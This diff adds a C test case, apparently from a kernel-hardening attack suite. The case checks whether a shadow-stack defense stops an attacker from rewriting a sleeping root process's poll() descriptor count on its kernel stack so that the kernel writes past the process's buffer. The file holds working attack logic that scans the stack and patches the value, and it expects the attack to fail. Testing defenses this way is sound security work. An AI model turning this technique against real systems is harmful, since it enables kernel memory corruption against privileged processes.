@@ -1,0 +1,57 @@
+// SPDX-License-Identifier: GPL-2.0-only
+#include <linux/poll.h>
+
+#include "attack.h"
+
+ATTACK("shadow_stack", "sleeping_count", "LOST",
+       "A program of root sleeps in a poll of 37 descriptors. On its kernel stack stands how many "
+       "there are; the attacker makes that 38, and has one become ready.",
+       "When it has slept, a call that writes a list to its program asks again how long that is: "
+       "the argument stands in the program's registers, which only its own page tables show.",
+       "The kernel writes behind the list, in the memory of root's program.");
+
+#define FIFO "/tmp/fifo"
+#define STACK_BYTES 4096
+#define COUNT 37
+#define KERNEL_ENTRY 16 /* bytes of an entry of the kernel's own list: it may count in bytes */
+
+static struct {
+	struct pollfd asked[COUNT];
+	volatile uint64_t behind;
+} memory;
+
+static bool control(void)
+{
+	sleep_milliseconds(100); /* the victim sleeps */
+	return is_ordinary() && peek32(victim_task(own_task()) + member("task.id")) != 0;
+}
+
+static bool fire(void)
+{
+	const uint64_t top = peek(victim_task(own_task()) + member("task.arch.stack_top"));
+	const long file = call3(__NR_open, (long)FIFO, O_WRONLY, 0);
+	const uint64_t bytes = 1;
+
+	for (uint64_t at = top - STACK_BYTES; at < top; at += 4)
+		for (uint32_t size = 1; size <= KERNEL_ENTRY; size *= 2)
+			if (peek32(at) == COUNT * size)
+				poke32(at, (COUNT + 1) * size);
+	call3(__NR_write, file, (long)&bytes, sizeof(bytes));
+	sleep_milliseconds(300);
+	return false;
+}
+
+static void victim(void)
+{
+	const long file =
+		(call3(__NR_mknod, (long)FIFO, 0010000 | 0666, 0),
+		 call2(__NR_chmod, (long)FIFO, 0666), call3(__NR_open, (long)FIFO, O_RDWR, 0));
+
+	for (int i = 0; i < COUNT; i++)
+		memory.asked[i] = (struct pollfd){ .fd = (int)file, .events = POLLIN };
+	memory.behind = UINT64_MAX;
+	call3(__NR_poll, (long)memory.asked, COUNT, -1);
+	if (memory.behind != UINT64_MAX)
+		say_result("WON");
+	victim_waits();
+}
